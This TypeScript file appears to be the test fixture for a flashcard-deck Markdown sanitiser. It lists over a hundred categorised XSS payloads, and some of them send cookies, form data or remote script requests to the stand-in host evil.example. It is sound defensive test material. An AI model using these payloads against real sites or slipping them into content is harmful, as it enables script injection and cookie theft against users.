/**
 * Script-injection payloads for deck content. Every payload that could run does something a test
 * can see: `alert(1)` (a dialog), `window.__xss = 1`, or a request to `evil.example` (an origin
 * the tests forbid). Used by the sanitiser unit test (`src/lib/deck/markdown.test.ts`), the deck
 * generator (`xss-deck.ts`) and the browser test (`xss.e2e.ts`).
 */

/** One payload: a stable name, a category and the raw deck text (Markdown/HTML). */
export interface XssPayload {
	name: string;
	category:
		| 'script'
		| 'handler'
		| 'url'
		| 'svg-mathml'
		| 'mxss'
		| 'css'
		| 'frame-base-meta-form'
		| 'markdown'
		| 'entity-unicode'
		| 'cloze'
		| 'clobber';
	text: string;
}

const p = (category: XssPayload['category'], name: string, text: string): XssPayload => ({
	name,
	category,
	text
});

export const XSS_PAYLOADS: readonly XssPayload[] = [
	// ------------------------------------------------------------------ script elements
	p('script', 'script-basic', '<script>window.__xss=1;alert(1)</script>'),
	p('script', 'script-src-remote', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'),
	p('script', 'script-fetch', "<script>fetch('//evil.example/s')</script>"),
	p('script', 'script-nested-split', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
	p('script', 'script-attr-breakout', '"><script>alert(1)</script>'),
	p('script', 'script-close-p', '</p><script>window.__xss=1</script><p>'),
	p('script', 'script-data-src', '<script src="data:text/javascript,window.__xss=1"></script>'),
	p('script', 'script-type-module', '<script type=module>import("//evil.example/m.js")</script>'),
	p('script', 'script-unclosed', '<script>alert(1)//'),

	// ------------------------------------------------------------------ event handlers
	p('handler', 'img-onerror', '<img src=x onerror=alert(1)>'),
	p('handler', 'img-onerror-quoted', '<img src="x" onerror="window.__xss=1">'),
	p('handler', 'img-onerror-upper', '<IMG SRC=x ONERROR="fetch(\'//evil.example/i\')">'),
	p('handler', 'img-slash-separators', '<img/src/onerror=alert(1)>'),
	p(
		'handler',
		'img-onerror-exfil',
		`<img src="x" alt="x" onerror="this.src='//evil.example/?c='+document.cookie">`
	),
	p('handler', 'svg-onload', '<svg onload=alert(1)>'),
	p('handler', 'svg-slash-onload', '<svg/onload=window.__xss=1>'),
	p('handler', 'body-onload', '<body onload=alert(1)>'),
	p('handler', 'details-ontoggle', '<details open ontoggle=alert(1)>x</details>'),
	p('handler', 'video-source-onerror', '<video><source onerror=alert(1)></video>'),
	p('handler', 'video-onerror', '<video src=x onerror=window.__xss=1></video>'),
	p('handler', 'audio-onerror', '<audio src=x onerror=alert(1)>'),
	p('handler', 'input-autofocus', '<input autofocus onfocus=alert(1)>'),
	p('handler', 'select-autofocus', '<select autofocus onfocus=window.__xss=1></select>'),
	p('handler', 'textarea-autofocus', '<textarea autofocus onfocus=alert(1)></textarea>'),
	p('handler', 'marquee-onstart', '<marquee onstart=alert(1)>x</marquee>'),
	p(
		'handler',
		'a-onclick-onmouseover',
		'<a href="https://ok.example/" onmouseover="alert(1)" onclick="window.__xss=1">hover</a>'
	),
	p(
		'handler',
		'p-onclick-overlay',
		'<p onclick=alert(1) style="position:fixed;inset:0;z-index:99">tap anywhere</p>'
	),
	p(
		'handler',
		'span-onanimationstart',
		'<style>@keyframes k{}</style><span style="animation:k 1s" onanimationstart=alert(1)>s</span>'
	),
	p(
		'handler',
		'custom-element-onclick',
		'<x-card onclick=alert(1) onpointerover=alert(1)>c</x-card>'
	),
	p('handler', 'button-formaction', '<button formaction=javascript:alert(1)>go</button>'),
	p('handler', 'object-data-js', '<object data="javascript:alert(1)"></object>'),
	p('handler', 'embed-src-js', '<embed src="javascript:alert(1)">'),

	// ------------------------------------------------------------------ dangerous URLs
	p('url', 'a-javascript', '<a href="javascript:alert(1)">js</a>'),
	p('url', 'a-javascript-mixed-case', '<a href="JaVaScRiPt:window.__xss=1">js</a>'),
	p('url', 'a-javascript-tab', '<a href="jav&#x09;ascript:alert(1)">tab</a>'),
	p('url', 'a-javascript-newline', '<a href="java\nscript:alert(1)">nl</a>'),
	p(
		'url',
		'a-javascript-decimal-entities',
		'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>'
	),
	p(
		'url',
		'a-javascript-padded-entities',
		'<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">pad</a>'
	),
	p('url', 'a-javascript-colon-entity', '<a href="&#x6A;avascript&colon;alert(1)">colon</a>'),
	p('url', 'a-javascript-hex-colon', '<a href="javascript&#x3A;window.__xss=1">hex</a>'),
	p('url', 'a-javascript-control-prefix', '<a href=" \u0001javascript:alert(1)">ctl</a>'),
	p('url', 'a-javascript-comment-newline', '<a href="javascript://%0aalert(1)">cm</a>'),
	p(
		'url',
		'a-data-html',
		'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'
	),
	p('url', 'a-data-svg', '<a href="data:image/svg+xml,<svg onload=alert(1)>">svg</a>'),
	p('url', 'a-vbscript', '<a href="vbscript:msgbox(1)">vb</a>'),
	p('url', 'a-vbscript-entities', '<a href="&#118;bscript&#58;msgbox(1)">vb</a>'),
	p(
		'url',
		'a-ping-evil',
		'<a href="https://ok.example/" ping="https://evil.example/ping">ping</a>'
	),
	p('url', 'img-remote', '<img src="https://evil.example/pixel.png">'),
	p('url', 'img-srcset-remote', '<img srcset="https://evil.example/a.png 1x">'),
	p('url', 'link-stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>'),
	p('url', 'portal-remote', '<portal src=https://evil.example/></portal>'),

	// ------------------------------------------------------------------ iframe, base, meta, form
	p('frame-base-meta-form', 'iframe-javascript', '<iframe src="javascript:alert(1)"></iframe>'),
	p(
		'frame-base-meta-form',
		'iframe-srcdoc-script',
		'<iframe srcdoc="<script>parent.__xss=1;parent.alert(1)</script>"></iframe>'
	),
	p(
		'frame-base-meta-form',
		'iframe-srcdoc-entities',
		'<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>'
	),
	p('frame-base-meta-form', 'iframe-remote', '<iframe src="https://evil.example/"></iframe>'),
	p('frame-base-meta-form', 'base-href', '<base href="https://evil.example/">'),
	p(
		'frame-base-meta-form',
		'meta-refresh-js',
		'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
	),
	p(
		'frame-base-meta-form',
		'meta-refresh-remote',
		'<meta http-equiv="refresh" content="0;url=https://evil.example/">'
	),
	p(
		'frame-base-meta-form',
		'meta-csp-override',
		`<meta http-equiv="content-security-policy" content="script-src * 'unsafe-inline'">`
	),
	p(
		'frame-base-meta-form',
		'form-action-js',
		'<form action="javascript:alert(1)"><button>Send</button></form>'
	),
	p(
		'frame-base-meta-form',
		'form-action-remote',
		'<form action="https://evil.example/steal" method=post><input name=q value=1><button>Send</button></form>'
	),
	p('frame-base-meta-form', 'isindex', '<isindex action=javascript:alert(1) type=image>'),

	// ------------------------------------------------------------------ SVG and MathML
	p('svg-mathml', 'svg-script', '<svg><script>alert(1)</script></svg>'),
	p(
		'svg-mathml',
		'svg-xlink-href',
		'<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>svg link</text></a></svg>'
	),
	p('svg-mathml', 'svg-animate-onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
	p(
		'svg-mathml',
		'svg-set-href',
		'<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>set</text></a></svg>'
	),
	p(
		'svg-mathml',
		'svg-use-data',
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`
	),
	p(
		'svg-mathml',
		'svg-foreignobject-iframe',
		'<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>'
	),
	p(
		'svg-mathml',
		'math-maction-href',
		'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>'
	),
	p('svg-mathml', 'math-href', '<math href="javascript:alert(1)">CLICKME</math>'),

	// ------------------------------------------------------------------ mutation XSS classics
	p(
		'mxss',
		'mxss-math-mglyph-style',
		'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'
	),
	p(
		'mxss',
		'mxss-math-mglyph-comment',
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
	),
	p('mxss', 'mxss-svg-p-style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
	p(
		'mxss',
		'mxss-form-math',
		'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'
	),
	p('mxss', 'mxss-noscript-title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
	p('mxss', 'mxss-template-img', '<template><img src=x onerror=alert(1)></template>'),
	p('mxss', 'mxss-template-script', '<template><script>alert(1)</script></template>'),
	p('mxss', 'mxss-xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
	p('mxss', 'mxss-noembed', '<noembed><img title="</noembed><img src=x onerror=alert(1)>">'),
	p('mxss', 'mxss-textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">'),
	p('mxss', 'mxss-title', '<title><img title="</title><img src=x onerror=alert(1)>">'),
	p('mxss', 'mxss-iframe-text', '<iframe><img title="</iframe><img src=x onerror=alert(1)>">'),
	p('mxss', 'mxss-comment-bang', '<!--><img src=x onerror=alert(1)>-->'),
	p('mxss', 'mxss-cdata', '<![CDATA[><img src=x onerror=alert(1)>]]>'),
	p('mxss', 'mxss-processing-instruction', '<?xml-stylesheet ><img src=x onerror=alert(1)>?>'),
	p('mxss', 'mxss-table-style', '<table><td><style></td><img src=x onerror=alert(1)>'),
	p('mxss', 'mxss-select-style', '<select><style></select><img src=x onerror=alert(1)></style>'),

	// ------------------------------------------------------------------ CSS injection
	p(
		'css',
		'style-import-remote',
		"<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/bg)}</style>"
	),
	p('css', 'style-hide-everything', '<style>*{display:none!important}</style>'),
	p(
		'css',
		'style-attr-exfil-selector',
		'<style>input[value^="a"]{background:url(https://evil.example/a)}</style>'
	),
	p('css', 'style-attr-url', `<p style="background:url('https://evil.example/bg.png')">bg</p>`),
	p('css', 'style-attr-expression', '<p style="width:expression(alert(1))">ie</p>'),
	p('css', 'style-attr-url-js', '<div style="background-image:url(javascript:alert(1))">x</div>'),
	p(
		'css',
		'style-attr-binding',
		'<span style="behavior:url(x.htc);-moz-binding:url(https://evil.example/xbl#x)">b</span>'
	),

	// ------------------------------------------------------------------ Markdown links and images
	p('markdown', 'md-link-javascript', '[x](javascript:alert(1))'),
	p('markdown', 'md-link-javascript-upper', '[x](JAVASCRIPT:window.__xss=1)'),
	p('markdown', 'md-link-colon-entity', '[x](javascript&#58;alert(1))'),
	p('markdown', 'md-link-j-entity', '[x](&#x6A;avascript:alert(1))'),
	p('markdown', 'md-link-angle', '[x](<javascript:alert(1)>)'),
	p('markdown', 'md-link-space-title', '[x]( javascript:alert(1) "t")'),
	p('markdown', 'md-link-data', '[x](data:text/html,<script>alert(1)</script>)'),
	p('markdown', 'md-link-vbscript', '[x](vbscript:msgbox(1))'),
	p(
		'markdown',
		'md-link-title-breakout',
		'[x](https://ok.example/ "a\\" onmouseover=\\"alert(1)")'
	),
	p('markdown', 'md-link-html-text', '[<img src=x onerror=alert(1)>](https://ok.example/)'),
	p('markdown', 'md-reference-link', '[a][ref]\n\n[ref]: javascript:alert(1)'),
	p('markdown', 'md-autolink-javascript', '<javascript:alert(1)>'),
	p('markdown', 'md-image-onerror', '![x](x" onerror="alert(1))'),
	p('markdown', 'md-image-alt-breakout', '![x" onerror="alert(1)](x)'),
	p('markdown', 'md-image-remote', '![x](https://evil.example/p.png)'),
	p('markdown', 'md-image-javascript', '![x](javascript:alert(1))'),
	p('markdown', 'md-code-span', '`<img src=x onerror=alert(1)>`'),
	p('markdown', 'md-fenced-code', '```html\n<script>alert(1)</script>\n```'),
	p(
		'markdown',
		'md-table',
		'| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |'
	),
	p('markdown', 'md-blockquote-svg', '> <svg onload=alert(1)>'),
	p('markdown', 'md-list-details', '- <details open ontoggle=alert(1)>'),
	p('markdown', 'md-strong-img', '**<img src=x onerror=alert(1)>**'),
	p('markdown', 'md-html-block-then-md', '<div>\n\n[x](javascript:alert(1))\n\n</div>'),

	// ------------------------------------------------------------------ entities and unicode
	p('entity-unicode', 'escaped-img', '&lt;img src=x onerror=alert(1)&gt;'),
	p('entity-unicode', 'numeric-escaped-script', '&#60;script&#62;alert(1)&#60;/script&#62;'),
	p('entity-unicode', 'double-escaped', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'),
	p('entity-unicode', 'js-unicode-escape-text', '\\u003cimg src=x onerror=alert(1)\\u003e'),
	p('entity-unicode', 'fullwidth-brackets', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'),
	p('entity-unicode', 'handler-unicode-escape', '<img src=x onerror="\\u0061lert(1)">'),
	p('entity-unicode', 'handler-entity-parens', '<img src=x onerror=alert&lpar;1&rpar;>'),
	p(
		'entity-unicode',
		'handler-entities',
		'<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>'
	),
	p('entity-unicode', 'null-in-scheme', '<a href="java\u0000script:alert(1)">nul</a>'),
	p('entity-unicode', 'zero-width-in-tag', '<scr\u200bipt>alert(1)</scr\u200bipt>'),
	p('entity-unicode', 'rtl-override', '<a href="https://ok.example/">\u202egnp.exe</a>'),

	// ------------------------------------------------------------------ cloze syntax
	p('cloze', 'cloze-answer-img', '{{c1::<img src=x onerror=alert(1)>}}'),
	p('cloze', 'cloze-hint-svg', '{{c1::ok::<svg onload=alert(1)>}}'),
	p('cloze', 'cloze-answer-md-link', '{{c1::[x](javascript:alert(1))}}'),
	p('cloze', 'cloze-answer-breakout', '{{c1::</mark><script>alert(1)</script><mark>}}'),

	// ------------------------------------------------------------------ DOM clobbering
	p(
		'clobber',
		'clobber-id-name',
		'<a id="__xss" name="__xss" href="https://ok.example/">clobber</a>'
	),
	p('clobber', 'clobber-form-name', '<form name="__xss"><input name="__xss"></form>'),
	p('clobber', 'clobber-data-attrs', '<span data-sveltekit-reload is="x" id="main">d</span>'),
	p('clobber', 'tabnabbing', '<a href="https://ok.example/" target="_self" rel="opener">tab</a>')
];

/** Payload texts only. */
export const XSS_TEXTS: readonly string[] = XSS_PAYLOADS.map((x) => x.text);
